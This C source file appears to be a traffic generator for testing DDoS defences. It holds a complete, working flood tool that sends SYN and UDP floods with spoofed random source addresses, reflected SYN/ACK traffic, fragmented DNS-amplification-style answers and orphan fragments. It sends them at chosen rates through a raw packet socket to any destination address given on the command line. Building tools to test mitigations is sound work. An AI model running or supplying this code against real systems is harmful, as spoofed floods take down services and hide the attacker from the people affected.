// SPDX-License-Identifier: GPL-2.0
/*
 * Sends the vectors of a distributed attack at steady rates: packets in the name of
 * random sources, and what reflectors answer to questions that were asked in the name
 * of the one who is attacked.
 *
 * usage: flood DEVICE MAC SECONDS KIND,DESTINATION,RATE...
 *
 *	syn	opens a connection to port 80, from any address (IPv6: from 2001:db8::/32)
 *	udp	300 bytes to port 443, from any address
 *	synack	of one of the web servers among 4096 reflectors
 *	dns	a part of an answer of 3500 bytes, in three fragments, of one of the name
 *		servers among 4096 reflectors
 *	frag	a later fragment of a datagram that has no first, from any address
 *
 * RATE is packets per second. Frames go by DEVICE to MAC. It tells how many packets and
 * bytes (of IP) of each vector it has sent, also when SIGTERM ends it.
 */
#define _GNU_SOURCE
#include <arpa/inet.h>
#include <errno.h>
#include <linux/if_packet.h>
#include <net/ethernet.h>
#include <net/if.h>
#include <netinet/in.h>
#include <netinet/ip.h>
#include <netinet/ip6.h>
#include <netinet/tcp.h>
#include <netinet/udp.h>
#include <signal.h>
#include <stdbool.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/ioctl.h>
#include <sys/socket.h>
#include <time.h>
#include <unistd.h>

#define BATCH		32
#define FRAME_MAX	1514
#define REFLECTORS	4096
#define DNS_BYTES	3500	/* of UDP, with its header */
#define FRAG_BYTES	1480
#define FRAG_IS		44	/* frag header of IPv6 */

enum kind { SYN, UDP, SYNACK, DNS, FRAG };

static const char * const kind_names[] = { "syn", "udp", "synack", "dns", "frag" };

struct vector {
	enum kind kind;
	uint8_t to[16];
	size_t addr_len;	/* bytes of an address */
	double rate;
	double skipped;		/* could not be sent in time, and is not made up for */
	unsigned long sent, bytes;
	uint8_t from[16];	/* of the datagram that is being sent in parts */
	uint32_t id;
	unsigned int at;	/* how much of it was sent */
};

static uint8_t frames[BATCH][FRAME_MAX];
static uint64_t rnd_state = 88172645463325252ull;
static volatile sig_atomic_t stop;

static void die(const char *what)
{
	fprintf(stderr, "flood: %s: %s\n", what, strerror(errno));
	exit(1);
}

static void stop_now(int sig)
{
	(void)sig;
	stop = 1;
}

static double now(void)
{
	struct timespec ts;

	clock_gettime(CLOCK_MONOTONIC, &ts);
	return ts.tv_sec + ts.tv_nsec / 1e9;
}

/* xorshift64 */
static uint64_t rnd(void)
{
	rnd_state ^= rnd_state << 13;
	rnd_state ^= rnd_state >> 7;
	rnd_state ^= rnd_state << 17;
	return rnd_state;
}

static uint32_t add_words(uint32_t sum, const void *data, size_t len)
{
	const uint8_t *at = data;

	for (; len > 1; len -= 2, at += 2)
		sum += at[0] << 8 | at[1];
	return len ? sum + (at[0] << 8) : sum;
}

static uint16_t fold(uint32_t sum)
{
	while (sum >> 16)
		sum = (sum & 0xffff) + (sum >> 16);
	return htons(~sum);
}

static void random_source(const struct vector *v, uint8_t *addr)
{
	static const uint8_t documentation[] = { 0x20, 0x01, 0x0d, 0xb8 };
	uint64_t words[2] = { rnd(), rnd() };

	memcpy(addr, words, v->addr_len);
	if (v->addr_len == 16)
		memcpy(addr, documentation, sizeof(documentation));
}

/* 198.19.128.0/20, or as many networks in 2001:db8:5e00::/40. */
static void reflector(const struct vector *v, uint8_t *addr)
{
	unsigned int nr = rnd() % REFLECTORS;

	if (v->addr_len == 4) {
		memcpy(addr, (uint8_t[]){ 198, 19, 128 + (nr >> 8), nr }, 4);
		return;
	}
	memset(addr, 0, 16);
	memcpy(addr, (uint8_t[]){ 0x20, 0x01, 0x0d, 0xb8, 0x5e, nr >> 8, nr }, 7);
	addr[15] = 1;
}

/*
 * Writes an IP header with room for @len bytes behind it. What is a fragment has its
 * place in the whole (@at) or is followed by others (@more). Returns the header's length.
 */
static size_t put_ip(const struct vector *v, uint8_t *at, uint8_t proto, size_t len,
		     unsigned int frag_at, bool more)
{
	struct ip6_hdr *ip6 = (struct ip6_hdr *)at;
	struct ip6_frag *frag = (struct ip6_frag *)(ip6 + 1);
	struct iphdr *ip = (struct iphdr *)at;
	bool part = frag_at || more;

	if (v->addr_len == 4) {
		memset(ip, 0, sizeof(*ip));
		ip->version = 4;
		ip->ihl = 5;
		ip->tot_len = htons(sizeof(*ip) + len);
		ip->id = v->id;
		ip->frag_off = htons(frag_at / 8 | (more ? IP_MF : 0));
		ip->ttl = 57;
		ip->protocol = proto;
		memcpy(&ip->saddr, v->from, 4);
		memcpy(&ip->daddr, v->to, 4);
		ip->check = fold(add_words(0, ip, sizeof(*ip)));
		return sizeof(*ip);
	}
	ip6->ip6_flow = htonl(6u << 28);
	ip6->ip6_plen = htons(len + (part ? sizeof(*frag) : 0));
	ip6->ip6_nxt = part ? FRAG_IS : proto;
	ip6->ip6_hlim = 57;
	memcpy(&ip6->ip6_src, v->from, 16);
	memcpy(&ip6->ip6_dst, v->to, 16);
	if (!part)
		return sizeof(*ip6);
	frag->ip6f_nxt = proto;
	frag->ip6f_reserved = 0;
	frag->ip6f_offlg = htons(frag_at | (more ? 1 : 0));
	frag->ip6f_ident = v->id;
	return sizeof(*ip6) + sizeof(*frag);
}

static uint16_t checksum(const struct vector *v, uint8_t proto, const void *l4, size_t len)
{
	uint32_t sum = add_words(proto + len, v->from, v->addr_len);

	return fold(add_words(add_words(sum, v->to, v->addr_len), l4, len));
}

/* Returns the bytes of a SYN or SYN/ACK with the options that Linux has. */
static size_t put_tcp(const struct vector *v, uint8_t *at, bool ack)
{
	static const uint8_t options[] = { 2, 4, 5, 0xb4, 1, 1, 4, 2, 1, 3, 3, 7 };
	size_t len = sizeof(struct tcphdr) + sizeof(options);
	size_t ip_len = put_ip(v, at, IPPROTO_TCP, len, 0, false);
	struct tcphdr *tcp = (struct tcphdr *)(at + ip_len);

	memset(tcp, 0, sizeof(*tcp));
	tcp->source = htons(ack ? 443 : 1024 + rnd() % 64000);
	tcp->dest = htons(ack ? 1024 + rnd() % 64000 : 80);
	tcp->seq = rnd();
	tcp->ack_seq = ack ? rnd() : 0;
	tcp->doff = len / 4;
	tcp->syn = 1;
	tcp->ack = ack;
	tcp->window = htons(64240);
	memcpy(tcp + 1, options, sizeof(options));
	tcp->check = checksum(v, IPPROTO_TCP, tcp, len);
	return ip_len + len;
}

static size_t put_udp(const struct vector *v, uint8_t *at)
{
	size_t len = 300, ip_len = put_ip(v, at, IPPROTO_UDP, len, 0, false);
	struct udphdr *udp = (struct udphdr *)(at + ip_len);

	memset(udp, 0x55, len);
	udp->source = htons(1024 + rnd() % 64000);
	udp->dest = htons(443);
	udp->len = htons(len);
	udp->check = 0;
	udp->check = checksum(v, IPPROTO_UDP, udp, len);
	return ip_len + len;
}

static size_t put_dns(struct vector *v, uint8_t *at)
{
	size_t len, ip_len;
	uint8_t *data;

	if (!v->at) {
		reflector(v, v->from);
		v->id = rnd();
	}
	len = DNS_BYTES - v->at < FRAG_BYTES ? DNS_BYTES - v->at : FRAG_BYTES;
	ip_len = put_ip(v, at, IPPROTO_UDP, len, v->at, v->at + len < DNS_BYTES);
	data = at + ip_len;
	memset(data, 0x55, len);
	if (!v->at) {
		struct udphdr *udp = (struct udphdr *)data;

		udp->source = htons(53);
		udp->dest = htons(1024 + rnd() % 64000);
		udp->len = htons(DNS_BYTES);
		/* IPv6 has no packets without a checksum, but nobody here looks at it. */
		udp->check = v->addr_len == 4 ? 0 : 0x5555;
	}
	v->at = v->at + len < DNS_BYTES ? v->at + len : 0;
	return ip_len + len;
}

static size_t put_frag(struct vector *v, uint8_t *at)
{
	size_t len = 1000, ip_len;

	v->id = rnd();
	ip_len = put_ip(v, at, IPPROTO_UDP, len, (1 + rnd() % 180) * 8, rnd() & 1);
	memset(at + ip_len, 0x55, len);
	return ip_len + len;
}

static size_t put_packet(struct vector *v, uint8_t *at)
{
	if (v->kind == DNS)
		return put_dns(v, at);
	if (v->kind == SYNACK)
		reflector(v, v->from);
	else
		random_source(v, v->from);
	switch (v->kind) {
	case UDP:
		return put_udp(v, at);
	case FRAG:
		return put_frag(v, at);
	default:
		return put_tcp(v, at, v->kind == SYNACK);
	}
}

static void parse_vector(char *text, struct vector *v)
{
	char *to = strchr(text, ','), *rate = to ? strchr(to + 1, ',') : NULL;

	if (!rate) {
		fprintf(stderr, "flood: %s: not KIND,DESTINATION,RATE\n", text);
		exit(1);
	}
	*to++ = '\0';
	*rate++ = '\0';
	while (strcmp(kind_names[v->kind], text)) {
		if (++v->kind > FRAG) {
			fprintf(stderr, "flood: %s: no kind of attack\n", text);
			exit(1);
		}
	}
	v->addr_len = strchr(to, ':') ? 16 : 4;
	if (inet_pton(v->addr_len == 16 ? AF_INET6 : AF_INET, to, v->to) != 1) {
		fprintf(stderr, "flood: %s: not an address\n", to);
		exit(1);
	}
	v->rate = atof(rate);
}

static int open_device(const char *name, const char *mac)
{
	struct sockaddr_ll to = { .sll_family = AF_PACKET };
	struct ether_header eth = { 0 };
	struct ifreq ifr = { 0 };
	int i, fd = socket(AF_PACKET, SOCK_RAW, 0);

	to.sll_ifindex = if_nametoindex(name);
	snprintf(ifr.ifr_name, sizeof(ifr.ifr_name), "%s", name);
	if (fd < 0 || bind(fd, (struct sockaddr *)&to, sizeof(to)) ||
	    ioctl(fd, SIOCGIFHWADDR, &ifr))
		die(name);
	if (sscanf(mac, "%hhx:%hhx:%hhx:%hhx:%hhx:%hhx", &eth.ether_dhost[0],
		   &eth.ether_dhost[1], &eth.ether_dhost[2],
		   &eth.ether_dhost[3], &eth.ether_dhost[4],
		   &eth.ether_dhost[5]) != ETH_ALEN)
		die(mac);
	memcpy(eth.ether_shost, ifr.ifr_hwaddr.sa_data, ETH_ALEN);
	for (i = 0; i < BATCH; i++)
		memcpy(frames[i], &eth, sizeof(eth));
	return fd;
}

static void send_some(int fd, struct vector *v, unsigned int count)
{
	uint16_t type = htons(v->addr_len == 4 ? ETHERTYPE_IP : ETHERTYPE_IPV6);
	struct mmsghdr msgs[BATCH];
	struct iovec iov[BATCH];
	unsigned int i;
	int sent;

	memset(msgs, 0, sizeof(msgs));
	for (i = 0; i < count; i++) {
		memcpy(frames[i] + 2 * ETH_ALEN, &type, sizeof(type));
		iov[i].iov_base = frames[i];
		iov[i].iov_len = ETH_HLEN + put_packet(v, frames[i] + ETH_HLEN);
		msgs[i].msg_hdr.msg_iov = &iov[i];
		msgs[i].msg_hdr.msg_iovlen = 1;
	}
	sent = sendmmsg(fd, msgs, count, 0);
	if (sent < 0 && errno != ENOBUFS && errno != EINTR)
		die("sendmmsg");
	for (i = 0; sent > 0 && i < (unsigned int)sent; i++)
		v->bytes += iov[i].iov_len - ETH_HLEN;
	v->sent += sent > 0 ? sent : 0;
}

/* Sends what is due of a vector, a batch at most; returns whether it was one. */
static bool vector_send(int fd, struct vector *v, double passed)
{
	double due = v->rate * passed - v->skipped - v->sent;

	if (due > v->rate / 10 + 1) {
		v->skipped += due - v->rate / 10 - 1;
		due = v->rate / 10 + 1;
	}
	if (due < 1)
		return false;
	send_some(fd, v, due < BATCH ? due : BATCH);
	return due >= BATCH;
}

int main(int argc, char **argv)
{
	struct timespec pause = { .tv_nsec = 1000000 };
	int i, fd, count = argc - 4;
	struct vector *vectors;
	double begin;
	bool more;

	if (count < 1) {
		fprintf(stderr, "usage: flood DEVICE MAC SECONDS KIND,DESTINATION,RATE...\n");
		return 1;
	}
	vectors = calloc(count, sizeof(*vectors));
	if (!vectors)
		die("memory");
	for (i = 0; i < count; i++)
		parse_vector(argv[4 + i], &vectors[i]);
	signal(SIGTERM, stop_now);
	fd = open_device(argv[1], argv[2]);
	begin = now();
	while (!stop && now() < begin + atof(argv[3])) {
		more = false;
		for (i = 0; i < count; i++)
			more |= vector_send(fd, &vectors[i], now() - begin);
		if (!more)
			nanosleep(&pause, NULL);
	}
	for (i = 0; i < count; i++)
		printf("%s/%s %lu packets %lu bytes\n", kind_names[vectors[i].kind],
		       vectors[i].addr_len == 4 ? "ipv4" : "ipv6", vectors[i].sent,
		       vectors[i].bytes);
	return 0;
}
